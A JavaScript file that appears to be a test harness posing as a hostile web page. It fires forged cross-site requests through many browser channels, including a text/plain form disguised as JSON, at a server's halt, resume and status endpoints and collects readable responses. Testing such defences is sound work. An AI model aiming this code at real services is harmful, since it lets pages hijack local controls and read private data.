// Runs in the browser, as the script of a page that is up to no good. Every way that a page has of reaching a server.

/** So long the browser may take to tell the page how it went, in ms. On an idle machine it takes less than 2 seconds. */
const TOLD_MS = 20_000

const sheet = (url) => `@import url(${JSON.stringify(url)});`

/** Ways to send a POST with a body. Each resolves with what the page gets to read, or null. */
const POSTS = {
  'fetch as text': (url, body) => read(fetch(url, { method: 'POST', body })),
  'fetch as form': (url, body) => read(fetch(url, { method: 'POST', body: new URLSearchParams({ body }) })),
  'fetch as JSON': (url, body) =>
    read(fetch(url, { method: 'POST', body, headers: { 'Content-Type': 'application/json' } })),
  'fetch with a token': (url, body) =>
    read(fetch(url, { method: 'POST', body, headers: { Authorization: 'Bearer guess' } })),
  'fetch without CORS': (url, body) => read(fetch(url, { method: 'POST', body, mode: 'no-cors' })),
  'fetch with credentials': (url, body) => read(fetch(url, { method: 'POST', body, credentials: 'include' })),
  'fetch that outlives the page': (url, body) =>
    read(fetch(url, { method: 'POST', body, mode: 'no-cors', keepalive: true })),
  'fetch without referrer': (url, body) =>
    read(fetch(url, { method: 'POST', body, mode: 'no-cors', referrerPolicy: 'no-referrer' })),
  'fetch by a detour': (url, body) => read(fetch(detour(url), { method: 'POST', body, mode: 'no-cors' })),
  'fetch in a worker': (url, body) => inWorker(url, body),
  'fetch in a sandbox': (url, body) => inSandbox(url, body),
  ...(window.isSecureContext && { 'fetch in a service worker': (url, body) => inServiceWorker(url, body) }),
  XMLHttpRequest: (url, body) => byXhr('POST', url, body),
  sendBeacon: (url, body) => untold(navigator.sendBeacon(url, body)),
  'sendBeacon as form': (url, body) => untold(navigator.sendBeacon(url, new URLSearchParams({ body }))),
  'form into a frame': (url, body) => byForm(url, body),
  'form by a detour': (url, body) => byForm(detour(url), body),
  'form into a new window': (url, body) => byForm(url, body, '_blank'),
  'link with ping': (url) => byPing(url),
  'report of a policy': (url) => byElement('iframe', { src: `/report?to=${encodeURIComponent(url)}` }),
}

/** Ways to send a GET. */
const GETS = {
  fetch: (url) => read(fetch(url)),
  'fetch without CORS': (url) => read(fetch(url, { mode: 'no-cors' })),
  XMLHttpRequest: (url) => byXhr('GET', url),
  img: (url) => byElement('img', { src: url }),
  script: (url) => byElement('script', { src: url }),
  'module script': (url) => byElement('script', { src: url, type: 'module' }),
  'style sheet': (url) => byElement('link', { rel: 'stylesheet', href: url }),
  'imported style sheet': (url) => byElement('style', { textContent: sheet(url) }),
  preload: (url) => byElement('link', { rel: 'preload', as: 'fetch', crossOrigin: 'anonymous', href: url }),
  audio: (url) => byElement('audio', { src: url, preload: 'auto' }, ['loadedmetadata', 'error']),
  prefetch: (url) => byElement('link', { rel: 'prefetch', href: url }),
  'prefetch as a page': (url) => byElement('link', { rel: 'prefetch', as: 'document', href: url }),
  frame: (url) => byElement('iframe', { src: url }),
  'frame in a sandbox': (url) => byElement('iframe', { src: url, sandbox: 'allow-scripts allow-forms' }),
  embed: (url) => byElement('embed', { src: url, type: 'text/html' }),
  video: (url) => byElement('video', { src: url, preload: 'auto' }, ['loadedmetadata', 'error']),
  background: (url) =>
    byElement('div', { style: `background: url(${JSON.stringify(url)})`, textContent: '.' }, [], 500),
  object: (url) => byElement('object', { data: url }),
  'new window': (url) => byWindow(url),
  EventSource: (url) => byEvents(new EventSource(url)),
  WebSocket: (url) => byEvents(new WebSocket(url.replace('http', 'ws'))),
}

/** Ways of each kind that a browser has: scripts, forms, elements, frames, windows. */
const FEW = {
  POST: ['fetch as text', 'fetch as form', 'fetch without CORS', 'sendBeacon', 'form into a frame'],
  GET: ['fetch', 'fetch without CORS', 'img', 'script', 'prefetch', 'frame', 'object', 'new window'],
}

/**
 * Tries everything, most of it at once. Every request bears the way in its query.
 *
 * @param haltId what the page has found out, or guessed
 * @param calls further calls of the server, each `{ method, path }`: tried by a few ways
 * @returns by way, what the page could read
 */
window.attack = async (target, haltId, calls = []) => {
  const tries = {}
  for (const [way, send] of Object.entries(POSTS)) {
    tries[`halt by ${way}`] = (url) => send(url('/halt'), '{"reason":"a web page"}')
    tries[`resume by ${way}`] = (url) => send(url('/resume'), JSON.stringify({ confirm: haltId }))
  }
  for (const [way, send] of Object.entries(GETS)) {
    tries[`status by ${way}`] = (url) => send(url('/status'))
    tries[`halt by GET, ${way}`] = (url) => send(url('/halt'))
  }
  for (const { method, path } of calls) {
    for (const way of FEW[method]) {
      const send = (method === 'POST' ? POSTS : GETS)[way]
      tries[`${method} ${path} by ${way}`] = (url) => send(url(path), '{"reason":"a web page"}')
    }
  }
  const tryAll = (names) =>
    Promise.all(
      names.map(async (name) => {
        const url = (path) => `${target}${path}?way=${encodeURIComponent(name)}`
        return [name, await told((resolve) => tries[name](url).then(resolve, () => resolve(null)))]
      }),
    )
  // A window in front of this page slows its frames down.
  const inFront = (name) => name.includes('new window')
  const names = Object.keys(tries)
  const loot = await tryAll(names.filter((name) => !inFront(name)))
  return Object.fromEntries([...loot, ...(await tryAll(names.filter(inFront)))])
}

function told(begin) {
  return new Promise((resolve) => {
    setTimeout(() => resolve(null), TOLD_MS)
    begin(resolve)
  })
}

async function read(sent) {
  return (await (await sent).text()) || null
}

async function untold(accepted) {
  if (!accepted) throw new Error('refused by the browser')
  return null
}

/** The page's own server sends the browser on, with 307: the method and the body stay. */
function detour(url) {
  return `/detour?to=${encodeURIComponent(url)}`
}

function byXhr(method, url, body) {
  return told((resolve) => {
    const request = new XMLHttpRequest()
    request.open(method, url)
    request.onloadend = () => resolve(request.responseText || null)
    request.send(body)
  })
}

/** Resolves when the browser tells that it has loaded, or has not, or after `untoldMs`. Of a frame, what stands in it. */
function byElement(tag, properties, events = ['load', 'error'], untoldMs = 0) {
  return told((resolve) => {
    if (untoldMs > 0) setTimeout(resolve, untoldMs, null)
    const element = Object.assign(document.createElement(tag), properties)
    const look = () => resolve(element.contentDocument?.body?.textContent || null)
    for (const event of events) element.addEventListener(event, look)
    document.body.append(element)
  })
}

/** What a form sends as plain text is JSON, if its field is named for it. */
function byForm(url, body, where) {
  return told((resolve) => {
    const form = document.createElement('form')
    Object.assign(form, { method: 'POST', action: url, enctype: 'text/plain' })
    const field = Object.assign(document.createElement('input'), { name: `${body.slice(0, -1)},"x":"`, value: '"}' })
    const frame = Object.assign(document.createElement('iframe'), { name: `frame${Math.random()}` })
    form.target = where ?? frame.name
    form.append(field)
    document.body.append(frame, form)
    form.submit()
    if (where === '_blank') resolve(null)
    frame.addEventListener('load', () => {
      if (frame.contentDocument?.URL !== 'about:blank') resolve(frame.contentDocument?.body?.textContent || null)
    })
  })
}

function byPing(url) {
  const link = Object.assign(document.createElement('a'), { href: '#', ping: url })
  document.body.append(link)
  link.click()
  return untold(true)
}

function byWindow(url) {
  return told((resolve) => {
    const opened = window.open(url)
    const timer = setInterval(() => {
      try {
        const text = opened.document.body?.textContent
        if (text) resolve(text)
      } catch {
        resolve(null)
      }
      if (opened.closed) clearInterval(timer)
    }, 50)
  })
}

function byEvents(source) {
  return told((resolve) => {
    source.onmessage = ({ data }) => resolve(data)
    source.onerror = () => {
      source.close()
      resolve(null)
    }
  })
}

const SENDER = `async (url, body) => {
  const answer = await fetch(url, { method: 'POST', body, mode: 'cors' }).catch(() => null)
  return answer === null ? null : await answer.text()
}`

function inWorker(url, body) {
  return told((resolve) => {
    const code = `(${SENDER})(${JSON.stringify(url)}, ${JSON.stringify(body)}).then((text) => postMessage(text))`
    const worker = new Worker(URL.createObjectURL(new Blob([code])))
    worker.onmessage = ({ data }) => resolve(data)
    worker.onerror = () => resolve(null)
  })
}

/** Its origin is "null". */
function inSandbox(url, body) {
  return told((resolve) => {
    const id = `${Math.random()}`
    const send = `(${SENDER})(${JSON.stringify(url)}, ${JSON.stringify(body)})`
    const code = `${send}.then((text) => parent.postMessage({ id: ${JSON.stringify(id)}, text }, '*'))`
    addEventListener('message', ({ data }) => {
      if (data.id === id) resolve(data.text)
    })
    const frame = Object.assign(document.createElement('iframe'), { srcdoc: `<script>${code}</script>` })
    frame.sandbox = 'allow-scripts'
    document.body.append(frame)
  })
}

async function inServiceWorker(url, body) {
  await navigator.serviceWorker.register('/service-worker.js')
  const { active } = await navigator.serviceWorker.ready
  const { port1, port2 } = new MessageChannel()
  return told((resolve) => {
    port1.onmessage = ({ data }) => resolve(data)
    active.postMessage({ url, body }, [port2])
  })
}
